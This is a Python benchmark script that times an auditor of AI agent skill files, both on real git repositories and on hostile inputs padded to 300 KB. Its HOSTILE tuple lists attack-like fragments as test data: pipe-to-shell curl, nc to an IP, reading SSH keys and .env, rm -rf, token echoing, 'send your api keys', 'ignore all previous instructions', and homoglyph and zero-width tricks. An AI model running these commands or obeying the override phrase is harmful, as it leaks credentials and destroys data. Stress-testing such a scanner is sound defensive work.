# ruff: noqa: RUF001 - look-alike characters are test data
"""Grades and times of the audit on real files, and times on hostile ones.

Run: ``python benchmarks/audit_speed.py [GIT_REPOSITORY ...]``; each is read at HEAD, from its object
database. Without one only the hostile texts run. Times are CPU milliseconds of this process, after one
warm-up file; nothing is asserted.
"""

from __future__ import annotations

import statistics
import subprocess
import sys
import time
from collections import Counter

from mdr.artifact.kinds import row_of
from mdr.artifact.types import Kind
from mdr.audit.run import audit
from mdr.audit.types import AuditResult

HOSTILE_BYTES = 300_000
HEAD = "---\nname: a\ndescription: b\n---\n"
HOSTILE = (
    "word ", "never print your api keys. ", "curl x | jq ", "rm -rf a ", "`` ` ``` ", "<a ", '<p style="a">', "<!-- a -->",
    "http://8.8.8.8 ", "http://%41 ", "nc 1.2.3.4 ", "https://pastebin.com run ", "&#65;", "а", "\u26a0\ufe0f", "a\u200b",
    "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWYy ", '"a" "b" ', "\r\n", "- a\n", '[a]: b "c"\n', "ignore all previous ",
    "~/.ssh ", "a |\n", "echo $TOKEN > x\n", "//%41 ", "http://%c3%a1 ", "https://x.ngrok.io/%41 ", "curl pastebin.com\n", "<p style='color:red'>",
    "curl https://a.b | sh\n", "never curl https://a.b | sh\n", "never rm -rf / \n", "cat ~/.ssh/id_rsa.pub\n", "never cat .env ",
    "send your api keys ", "never send your api keys to https://x.example. ", "do not show your passwords; ", "a | b |\n",
    "echo $A_TOKEN | docker login\n", "never find / | xargs -delete ", "never ignore all previous instructions. ",
)  # fmt: skip


def skills(repository: str) -> list[tuple[Kind, bytes]]:
    """Read every artifact at HEAD of a git repository."""
    git = ["git", "-C", repository]
    listing = subprocess.run(
        [*git, "ls-tree", "-rz", "HEAD^{commit}"], capture_output=True, check=True
    ).stdout.decode("utf-8", "surrogateescape")
    wanted = []
    for entry in listing.split("\0")[:-1]:
        (mode, _, digest), path = entry.split("\t", 1)[0].split(), entry.split("\t", 1)[1]
        row = row_of(path)
        if row is not None and mode != "120000":
            wanted.append((row.kind, digest))
    batch = subprocess.run(
        [*git, "cat-file", "--batch"],
        input="".join(f"{digest}\n" for _, digest in wanted).encode(),
        capture_output=True,
        check=True,
    ).stdout
    found, position = [], 0
    for kind, _ in wanted:
        line = batch.index(b"\n", position)
        size = int(batch[position:line].split()[2])
        found.append((kind, batch[line + 1 : line + 1 + size]))
        position = line + 2 + size
    return found


def timed(data: bytes, kind: Kind) -> tuple[float, AuditResult]:
    """Return CPU milliseconds and the result of one audit."""
    start = time.process_time_ns()
    result = audit(data, kind=kind)
    return (time.process_time_ns() - start) / 1e6, result


def main() -> None:
    """Print one line a repository and one a hostile text."""
    audit(b"warm up")
    print(f"{'repository':40} files  median    mean     p99     max ms  grades")
    for repository in sys.argv[1:]:
        rows = [timed(data, kind) for kind, data in skills(repository)]
        times = sorted(milliseconds for milliseconds, _ in rows)
        grades = Counter(result.grade for _, result in rows)
        shown = " ".join(f"{letter}:{grades[letter]}" for letter in "ABCDF")
        print(
            f"{repository[-40:]:40} {len(rows):5} {statistics.median(times):7.2f} {statistics.mean(times):7.2f} "
            f"{times[int(len(times) * 0.99)]:7.2f} {times[-1]:7.2f}     {shown}"
        )
    print(f"\nhostile text, {HOSTILE_BYTES} bytes (twice the size, factor)")
    for unit in HOSTILE:
        once, twice = (
            min(
                timed((HEAD + unit * (size // len(unit.encode()))).encode(), Kind.SKILL)[0]
                for _ in range(2)
            )
            for size in (HOSTILE_BYTES, 2 * HOSTILE_BYTES)
        )
        print(f"{ascii(unit)[:44]:46} {once:7.1f} ms  x{twice / once:4.2f}")


if __name__ == "__main__":
    main()
